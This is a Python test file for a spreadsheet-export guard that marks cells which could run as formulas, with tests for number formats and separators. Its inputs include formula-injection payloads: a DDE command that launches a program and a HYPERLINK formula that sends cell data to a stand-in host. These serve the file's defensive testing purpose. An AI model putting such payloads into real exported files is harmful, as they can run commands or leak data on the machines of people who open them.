"""No cell becomes a formula in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ibmonitor.exporting.formulas import TEXT_MARK, guarded


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+", "@", "-cmd|' /C calc'!A0", "+A1", "-A1",
     " =1", "\N{NO-BREAK SPACE}=1", "\0=1", "\N{ZERO WIDTH SPACE}=1", '"=1+1"', '""-A1', "＝1+1", "－1+1",
     "-1,234.50 USD",
     "-1.234,50", "--5", "-5-", "-0x1", "-١", "-Infinity", "+1\n", '=HYPERLINK("http://x/?"&A1)'],
)  # fmt: skip
def test_cells_that_could_be_calculated_are_marked_as_text(cell: str) -> None:
    assert guarded(cell) == TEXT_MARK + cell


@pytest.mark.parametrize(
    "cell",
    ["", "0", "-5", "+5", "-0.25", "+1,234.50", "-1234567", "-1,234,567.8901", "-1E+40", "AAPL", "a=b", "1=1", "été",
     "x -1", "(=1)", "'=1", "2026-11-23 14:03:12", "U1234567", "✔ done", "— unknown", '"reason": "x"', '"'],
)  # fmt: skip
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.text(max_size=12))
def test_nothing_is_lost_and_nothing_dangerous_left(cell: str) -> None:
    made = guarded(cell)
    assert made in {cell, TEXT_MARK + cell}
    if made[:1] in set("=@＝＋－＠\t\r"):
        pytest.fail(made)
    if made[:1] in set("+-"):
        assert made[1:2].isdigit()


@pytest.mark.parametrize(
    ("group", "point", "number", "other"),
    [
        (",", ".", "-1,234.50", "-1.234,50"),
        (".", ",", "-1.234,50", "-1,234.50"),
        ("\N{NARROW NO-BREAK SPACE}", ",", "-1\N{NARROW NO-BREAK SPACE}234,5", "-1,234.5"),
        ("\N{NARROW NO-BREAK SPACE}", ",", "-1 234,5", "-1.234,5"),
        (".", ",", f"-{'1' * 32}.5", "-1.5"),
    ],
)
def test_what_a_number_is_depends_on_its_separators(group: str, point: str, number: str, other: str) -> None:
    assert guarded(number, group, point) == number
    assert guarded(other, group, point) == TEXT_MARK + other
